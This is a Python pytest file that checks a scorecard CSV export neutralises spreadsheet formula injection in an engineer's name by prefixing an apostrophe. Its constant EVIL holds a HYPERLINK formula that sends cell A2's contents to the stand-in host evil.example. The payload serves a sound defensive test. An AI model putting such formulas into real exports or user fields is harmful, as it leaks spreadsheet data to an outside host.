"""An engineer's name made to look like a formula reaches HP's Excel as plain text."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine

from tests.partners.factories import certify

NOW = datetime(2026, 11, 26, 10, 0, tzinfo=ZoneInfo("Europe/Paris"))
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.mark.parametrize("numbers", ["fr", "en"])
def test_a_formula_in_an_engineers_name_is_exported_with_a_leading_apostrophe(
    client, programme_manager, partner, numbers
):
    (certification,) = certify(
        partner, "PL-ASE", 1, passed_on=date(2024, 12, 10), expires_on=date(2026, 12, 31)
    )
    certification.engineer.name = EVIL
    certification.engineer.save()
    client.force_login(programme_manager)

    response = client.get(
        f"/reports/scorecard/?partner={partner.pk}&month=2026-11"
        f"&export=certifications&numbers={numbers}"
    )

    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if numbers == "fr" else ","))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert EVIL not in cells
